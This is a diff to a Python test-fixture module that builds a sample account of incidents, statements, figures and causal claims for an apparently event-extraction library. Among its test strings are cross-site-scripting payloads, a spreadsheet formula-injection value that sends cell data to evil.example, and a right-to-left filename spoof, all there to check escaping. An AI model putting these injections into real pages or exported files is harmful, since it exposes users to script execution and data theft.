@@ -1,4 +1,4 @@
-"""A small account made by hand: seven incidents, three reports, and all that a hostile report may try."""
+"""A small account made by hand: incidents, every kind of mention, and all that a hostile report tries."""
 
 from __future__ import annotations
 
@@ -9,20 +9,26 @@ from datetime import date, timedelta
 from polybius.records import (
     Account,
     ActorRef,
+    Assessment,
     Candidate,
+    CausalClaim,
     Count,
     EventMention,
+    Figure,
     Footnote,
     Found,
     Incident,
     Passage,
     PassageKind,
+    Phrase,
     Place,
     Quote,
     Reject,
+    Relation,
     Report,
     Source,
     Span,
+    Statement,
     WeaponRef,
     When,
     Where,
@@ -36,6 +42,7 @@ PROVINCE = Place("admin1:XK.01", "East Province", "admin1", "XK", 42.5, 21.4, 40
 COUNTRY = Place("country:XK", "Kosovo", "country", "XK", 42.6, 20.9, 60.0)
 
 HOSTILE_LABEL = "<script>window.hacked=1</script><img src=x onerror=window.hacked=1>"
+HOSTILE_SCRIPT = "</script><script>window.hacked=1</script>"
 HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A1)</script><script>window.hacked=1</script>'
 LONG_WORD = "Donaudampfschifffahrt" * 30
 TURNED = "safe \u202egnp.exe\u202c words"
@@ -72,6 +79,16 @@ def words(report: Report, text: str) -> Quote:
 def actor(name: str, report: Report, text: str) -> ActorRef:
     quote = words(report, text)
     return ActorRef(name, text, quote.start, quote.end, None)
+
+
+def weapon(name: str, report: Report, text: str) -> WeaponRef:
+    quote = words(report, text)
+    return WeaponRef(name, text, quote.start, quote.end)
+
+
+def phrase(name: str, report: Report, text: str) -> Phrase:
+    quote = words(report, text)
+    return Phrase(name, text, quote.start, quote.end)
 
 
 def make_mention(report: Report, number: int, quote: str, trigger: str, **fields: object) -> EventMention:
@@ -163,7 +180,7 @@ def make_account() -> Account:
         when=on("2021-06-06", "On 6 June 2021"),
         killed=Count(3, 3, "three guards"),
         recipients=(actor("Guards of the harbour", agency, "three guards"),),
-        weapons=(WeaponRef("rocket", "rockets", 46, 53),),
+        weapons=(weapon("rocket", agency, "rockets"),),
         source=Source(("Daily Paper, 2021-06-07",), (words(agency, "7 Daily Paper, 2021-06-07"),)),
         status="reported",
         notes=("the doer is not told",),
@@ -262,6 +279,182 @@ def make_account() -> Account:
             make_incident(6, HOSTILE_LABEL, attack),
             make_incident(7, "Talks that were not held", talks),
         ),
+        statements=(
+            _said(
+                agency,
+                1,
+                "Dr. Hill denied that talks were held",
+                "denial",
+                "Dr. Hill",
+                "talks were held",
+                talks.id,
+            ),
+            _said(
+                paper,
+                1,
+                "The group said it had fired once",
+                "claim-of-responsibility",
+                "The group",
+                "it had fired",
+                claim.id,
+            ),
+            _said(hostile, 1, HOSTILE_SCRIPT, "warning", "@SUM(1+1)", HOSTILE_SCRIPT, None),
+        ),
+        figures=(
+            _counted(
+                paper, 1, "at least 5 people", "5 people", "at least 5", measure="fatalities", value=5, low=5
+            ),
+            _counted(
+                paper,
+                2,
+                "25 attacks this year",
+                "attacks",
+                "25",
+                measure="event-count",
+                value=25,
+                when=on("2021"),
+            ),
+            _counted(agency, 1, "three guards", "guards", "three", measure="fatalities", value=3),
+            _counted(
+                hostile,
+                1,
+                f"{HOSTILE_SCRIPT} After it all",
+                HOSTILE_SCRIPT,
+                "After",
+                measure="other",
+                value=-2,
+            ),
+        ),
+        relations=(
+            _related(agency, 1, "rockets hit North Harbour", "rockets", "located-at", "North Harbour"),
+            _related(
+                hostile,
+                1,
+                f"{HOSTILE_LABEL} was attacked by @SUM(1+1)",
+                "@SUM(1+1)",
+                "opposes",
+                HOSTILE_LABEL,
+            ),
+        ),
+        assessments=(
+            _judged(agency, 1, "The Council plans to vote in August 2021", "plans", resolvable=True),
+            _judged(hostile, 1, HOSTILE_SCRIPT, None, resolvable=False),
+        ),
+        causal=(
+            _causes(paper, 1, "Rockets struck Testtown on 8 June 2021 and killed", "Rockets", "killed", 1),
+            _causes(hostile, 1, f"{HOSTILE_SCRIPT} After", HOSTILE_SCRIPT, "After", -1),
+        ),
+    )
+
+
+_UNDATED = When.unknown("nothing in the passage dates it")
+
+
+def _said(
+    report: Report, number: int, quote: str, kind: str, speaker: str, content: str, about: str | None
+) -> Statement:
+    by = actor(speaker, report, speaker)
+    return Statement(
+        f"{report.id}.s{number}",
+        report.id,
+        0,
+        words(report, quote),
+        kind,
+        by,
+        about,
+        words(report, content),
+        False,
+        "reported",
+        Source((speaker,), (words(report, speaker),)),
+        "test.said",
+    )
+
+
+def _counted(
+    report: Report,
+    number: int,
+    quote: str,
+    subject: str,
+    told: str,
+    *,
+    measure: str,
+    value: float | None = None,
+    low: float | None = None,
+    when: When = _UNDATED,
+) -> Figure:
+    return Figure(
+        f"{report.id}.f{number}",
+        report.id,
+        0,
+        words(report, quote),
+        measure,
+        phrase(subject, report, subject),
+        value,
+        low,
+        None,
+        "persons",
+        words(report, told),
+        when,
+        False,
+        False,
+        "asserted",
+        Source(()),
+        "test.figure",
+    )
+
+
+def _related(report: Report, number: int, quote: str, subject: str, relation: str, other: str) -> Relation:
+    return Relation(
+        f"{report.id}.r{number}",
+        report.id,
+        0,
+        words(report, quote),
+        actor(subject, report, subject),
+        relation,
+        actor(other, report, other),
+        on("2019/.."),
+        _UNDATED,
+        False,
+        "asserted",
+        Source(()),
+        "test.relation",
+    )
+
+
+def _judged(
+    report: Report, number: int, quote: str, likelihood: str | None, *, resolvable: bool
+) -> Assessment:
+    return Assessment(
+        f"{report.id}.a{number}",
+        report.id,
+        0,
+        words(report, quote),
+        words(report, quote),
+        words(report, likelihood) if likelihood else None,
+        on("2021-08"),
+        None,
+        resolvable,
+        True,
+        "asserted",
+        Source(()),
+        "test.judged",
+        ("likelihood: likely",),
+    )
+
+
+def _causes(report: Report, number: int, quote: str, cause: str, effect: str, polarity: int) -> CausalClaim:
+    return CausalClaim(
+        f"{report.id}.c{number}",
+        report.id,
+        0,
+        words(report, quote),
+        phrase(f"the {cause}", report, cause),
+        phrase(effect, report, effect),
+        polarity,
+        True,
+        "asserted",
+        Source(()),
+        "test.cause",
     )
 
 
@@ -274,3 +467,13 @@ def make_crowd(number: int) -> Account:
         make_incident(n, f"Incident {n}", mention, when=on(day.isoformat())) for n, day in enumerate(days, 1)
     )
     return replace(account, title="A crowd", incidents=tuple(incidents))
+
+
+def make_many_figures(number: int) -> Account:
+    """An account with so many figures of one measure, all told in the same words."""
+    account = make_account()
+    first = account.figures[1]
+    figures = (
+        replace(first, id=f"{first.report}.f{n}", value=n * 7919 % number) for n in range(1, number + 1)
+    )
+    return replace(account, title="Many figures", figures=tuple(figures))
